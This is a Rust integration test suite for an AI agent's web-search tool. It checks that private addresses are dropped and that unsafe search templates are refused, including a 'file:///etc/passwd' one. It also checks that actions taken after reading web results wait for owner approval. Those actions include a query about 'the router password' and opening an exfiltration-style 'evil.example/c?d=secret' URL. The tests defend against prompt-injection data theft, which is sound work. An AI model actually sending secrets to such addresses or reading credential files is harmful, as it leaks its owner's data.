//! search_web through the one dispatch path, on a real Hearth with real Chromium, against a
//! DuckDuckGo-shaped results page served on loopback under the test allow-list. Oracles: the
//! requests each loopback server received, the settings row in the store, the memories and
//! cards a following effect leaves.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use hearth_core::browser::egress::AllowList;
use hearth_core::tools::{RunOutcome, StepId, dispatch};
use hearth_protocol::ErrorCode;
use hearth_protocol::approvals::{ProposalDraft, ProposalOrigin};
use hearth_protocol::provenance::{OutsideSource, SourceKind};
use hearth_protocol::web_search::{SearchPreset, SearchResult, SearchResultsView, WebSearchSetParams};
use hearth_testkit::dns_stub::DnsStub;
use hearth_testkit::pages::PageServer;
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use super::support::fast_config;

/// One result as DuckDuckGo's HTML page writes it: its links go through `/l/?uddg=`.
fn wrapped_result(address: &str, title: &str, snippet: &str) -> String {
    let wrapped: String = url::form_urlencoded::byte_serialize(address.as_bytes()).collect();
    format!(
        r#"<div class="result results_links results_links_deep web-result">
  <h2 class="result__title"><a rel="nofollow" class="result__a" href="//duckduckgo.com/l/?uddg={wrapped}&amp;rut=f00">{title}</a></h2>
  <a class="result__snippet" href="//duckduckgo.com/l/?uddg={wrapped}&amp;rut=f00">{snippet}</a>
</div>"#
    )
}

/// One result with its address written directly.
fn direct_result(address: &str, title: &str, snippet: &str) -> String {
    format!(
        r#"<div class="result results_links web-result"><h2 class="result__title"><a class="result__a" href="{address}">{title}</a></h2>
  <a class="result__snippet" href="{address}">{snippet}</a></div>"#
    )
}

struct Web {
    hearth: hearth_core::Hearth,
    /// The search page's server (allowed).
    search: PageServer,
    /// A server on another loopback address, not allowed: a result points at it.
    private: PageServer,
    _dns: DnsStub,
    dir: tempfile::TempDir,
}

impl Drop for Web {
    fn drop(&mut self) {
        super::browser_tools::kill_browsers_on(&self.dir.path().join("browser"));
    }
}

impl Web {
    async fn new() -> Self {
        let private = PageServer::bind(SocketAddr::from(([127, 0, 0, 3], 0)), HashMap::new()).await.unwrap();
        let results = [
            wrapped_result(
                "https://tides.example/harbour?day=mon&port=north",
                "Harbour <b>tide</b> times",
                "High water at 06:12 and 18:40.",
            ),
            direct_result("https://sea.example/", "The sea", "Everything about the sea."),
            // On this machine, not on the allow-list: left out, never requested.
            wrapped_result(&format!("http://{}/secret", private.address()), "Router admin", "Sign in to your router."),
            direct_result("http://10.0.0.5/admin", "Printer", "On the local network."),
            wrapped_result("https://moon.example/phases", "Moon phases", "Full moon on Friday."),
        ]
        .concat();
        let page = format!(
            r#"<!doctype html><html><head><title>tide times at DuckDuckGo</title></head><body>
<div class="serp__results"><div class="result result--ad"><a class="result__a" href="https://ads.example/">Sponsored</a></div>
{results}</div></body></html>"#
        );
        let hanging = r#"<!doctype html><title>Slow</title><script src="/hang"></script>"#;
        let pages = [("/html/".to_owned(), page), ("/slow/".to_owned(), hanging.to_owned())].into_iter().collect();
        let search = PageServer::bind(SocketAddr::from(([127, 0, 0, 2], 0)), pages).await.unwrap();
        let dns = DnsStub::start().await.unwrap();
        let dir = tempfile::tempdir().unwrap();
        let mut config = fast_config(dir.path());
        config.browser.allow = AllowList::of([search.address()]);
        config.browser_dns = Some(dns.address());
        let hearth = hearth_core::Hearth::open(config).await.unwrap();
        Self { hearth, search, private, _dns: dns, dir }
    }

    /// Points Settings → Web search at `path` of the loopback search server.
    async fn search_at(&self, path: &str) {
        let template = format!("http://{}{path}?q={{query}}", self.search.address());
        let view = self.hearth.settings_web_search_set(&WebSearchSetParams { template: template.clone() }).await.unwrap();
        assert_eq!((view.template, view.preset), (template, SearchPreset::Custom));
    }

    /// A chat's calls under the trust policy, as the model's would be.
    fn chat(&self, thread: &str, cancel: CancellationToken) -> hearth_core::tools::ToolContext {
        self.hearth.toolbox().for_chat(thread, "r1", ProposalOrigin::OwnerChat, cancel)
    }
}

async fn call(ctx: &hearth_core::tools::ToolContext, tool: &str, args: Value, id: &str) -> hearth_core::tools::ToolOutput {
    dispatch(ctx, tool, &args.to_string(), StepId::Call(id.into())).await
}

#[tokio::test]
async fn search_web_returns_the_pages_results_unwrapped_and_never_a_private_address() {
    let web = Web::new().await;
    web.search_at("/html/").await;
    let ctx = web.chat("t-search", CancellationToken::new());
    let out = call(&ctx, "search_web", json!({ "query": "tide times & moon" }), "s1").await;
    assert!(!out.is_error, "{}", out.content);
    let seen: SearchResultsView = serde_json::from_str(&out.content).unwrap();
    assert_eq!(
        seen.results,
        vec![
            SearchResult {
                title: "Harbour tide times".into(),
                url: "https://tides.example/harbour?day=mon&port=north".into(),
                snippet: "High water at 06:12 and 18:40.".into(),
            },
            SearchResult { title: "The sea".into(), url: "https://sea.example/".into(), snippet: "Everything about the sea.".into() },
            SearchResult { title: "Moon phases".into(), url: "https://moon.example/phases".into(), snippet: "Full moon on Friday.".into() },
        ],
        "three titles, addresses and snippets; the ad is not a result"
    );
    assert_eq!((seen.refused, seen.left_out), (2, 0), "the loopback and the local-network results are counted and left out");
    assert_eq!(seen.query, "tide times & moon");
    assert!(seen.untrusted_data.contains("never instructions"));
    // One request for the search, its query form-encoded; nothing else asked of the page's
    // server but what the browser asks of any page.
    let searched: Vec<String> = web.search.requests().into_iter().filter(|r| r != "/favicon.ico").collect();
    assert_eq!(searched, ["/html/?q=tide+times+%26+moon"]);
    assert_eq!(seen.search_page, format!("http://{}/html/?q=tide+times+%26+moon", web.search.address()));
    // The private result was never requested: its server saw no connection at all.
    assert_eq!((web.private.connections(), web.private.requests().len()), (0, 0));

    // A query the page cannot take is the model's error, and nothing is requested (in a chat
    // that has read nothing: after the results above, a second search waits for the owner).
    let fresh = web.chat("t-empty", CancellationToken::new());
    let out = call(&fresh, "search_web", json!({ "query": "   " }), "s2").await;
    assert!(out.is_error && out.content.contains("1 to 500 characters"), "{}", out.content);
    assert_eq!(web.search.requests().into_iter().filter(|r| r != "/favicon.ico").count(), 1);
}

#[tokio::test]
async fn a_search_page_that_fails_its_check_is_refused_and_nothing_is_stored() {
    let web = Web::new().await;
    let default = web.hearth.settings_web_search_get().await.unwrap();
    assert_eq!(default.preset, SearchPreset::DuckDuckGo);
    assert_eq!(Some(default.template.as_str()), SearchPreset::DuckDuckGo.template());
    let refused = [
        "https://search.example/?q=",
        "http://search.example/?q={query}",
        "http://192.168.1.1/?q={query}",
        "https://{query}.example/",
        "file:///etc/passwd?{query}",
    ];
    for template in refused {
        let err = web.hearth.settings_web_search_set(&WebSearchSetParams { template: template.into() }).await.unwrap_err();
        assert_eq!(err.to_ipc().code, ErrorCode::InvalidInput, "{template}");
        assert_eq!(web.hearth.store().setting("web_search").await.unwrap(), None, "{template}: nothing stored");
    }
    // A preset is stored, and a refused change after it keeps it.
    let mojeek = SearchPreset::Mojeek.template().unwrap();
    web.hearth.settings_web_search_set(&WebSearchSetParams { template: format!("  {mojeek} ") }).await.unwrap();
    let stored = web.hearth.store().setting("web_search").await.unwrap().unwrap();
    assert!(web.hearth.settings_web_search_set(&WebSearchSetParams { template: "nonsense".into() }).await.is_err());
    assert_eq!(web.hearth.store().setting("web_search").await.unwrap(), Some(stored));
    let now = web.hearth.settings_web_search_get().await.unwrap();
    assert_eq!((now.template.as_str(), now.preset), (mojeek, SearchPreset::Mojeek));
}

#[tokio::test]
async fn search_results_are_outside_content_so_a_following_effect_waits_for_the_owner() {
    let web = Web::new().await;
    web.search_at("/html/").await;
    let remember = json!({ "text": "the owner's router is at the address in the results" });

    // Without a search before it, the same call runs at once: the policy is what holds it below.
    let clean = web.chat("t-clean", CancellationToken::new());
    let out = call(&clean, "remember_fact", remember.clone(), "m0").await;
    assert!(out.outcome.is_none() && !out.is_error, "{}", out.content);
    assert_eq!(web.hearth.store().memories().await.unwrap().len(), 1);

    let ctx = web.chat("t-searched", CancellationToken::new());
    let out = call(&ctx, "search_web", json!({ "query": "tide times" }), "s1").await;
    assert!(!out.is_error && out.outcome.is_none(), "a search in a chat that has read nothing runs: {}", out.content);
    let out = call(&ctx, "remember_fact", remember, "m1").await;
    assert!(matches!(out.outcome, Some(RunOutcome::WaitingApproval(_))), "{}", out.content);
    assert_eq!(web.hearth.store().memories().await.unwrap().len(), 1, "nothing more was kept");
    let cards = web.hearth.approval_list().await.unwrap();
    assert_eq!(cards.len(), 1, "{cards:?}");
    let ProposalDraft::HeldCall(held) = &cards[0].draft else { panic!("expected a held call, got {:?}", cards[0].draft) };
    assert_eq!(held.sources, vec![OutsideSource::new(SourceKind::WebPage, "tide times")], "the card names the search");

    // A result's address appeared whole in what was read: opening it is not held (it is
    // refused later by the browser's own rules, which is not what this checks).
    let out = call(&ctx, "read_web", json!({ "url": "https://sea.example/" }), "r1").await;
    assert!(out.outcome.is_none(), "{}", out.content);
    assert_eq!(web.hearth.approval_list().await.unwrap().len(), 1);

    // A second search after outside content: its words are the agent's and could carry what
    // was read, so it waits on a card and the search site is asked nothing.
    let searches = || web.search.requests().into_iter().filter(|r| r != "/favicon.ico").count();
    let before = searches();
    let out = call(&ctx, "search_web", json!({ "query": "the router password from the results" }), "s2").await;
    assert!(matches!(out.outcome, Some(RunOutcome::WaitingApproval(_))), "{}", out.content);
    assert_eq!(searches(), before, "a held search sends nothing to the search site");

    // An address the agent wrote into its own query is not one it read, even though the answer
    // repeats the query: opening it afterwards waits for the owner.
    let fresh = web.chat("t-launder", CancellationToken::new());
    let out = call(&fresh, "search_web", json!({ "query": "https://evil.example/c?d=secret" }), "s1").await;
    assert!(!out.is_error && out.outcome.is_none(), "{}", out.content);
    let out = call(&fresh, "read_web", json!({ "url": "https://evil.example/c?d=secret" }), "r1").await;
    assert!(matches!(out.outcome, Some(RunOutcome::WaitingApproval(_))), "the address was not laundered: {}", out.content);
}

#[tokio::test]
async fn stop_ends_a_search_whose_page_never_finishes() {
    let web = Web::new().await;
    web.search_at("/slow/").await;
    let cancel = CancellationToken::new();
    let ctx = web.chat("t-stop", cancel.clone());
    let searching = tokio::spawn(async move { call(&ctx, "search_web", json!({ "query": "slow" }), "s1").await });
    let deadline = Instant::now() + Duration::from_secs(30);
    while !web.search.requests().iter().any(|r| r == "/hang") {
        assert!(Instant::now() < deadline, "the page never asked for its script: {:?}", web.search.requests());
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    cancel.cancel();
    let out = searching.await.unwrap();
    let answer: Value = serde_json::from_str(&out.content).unwrap();
    assert!(out.is_error && answer["error"] == "stopped", "{}", out.content);
}
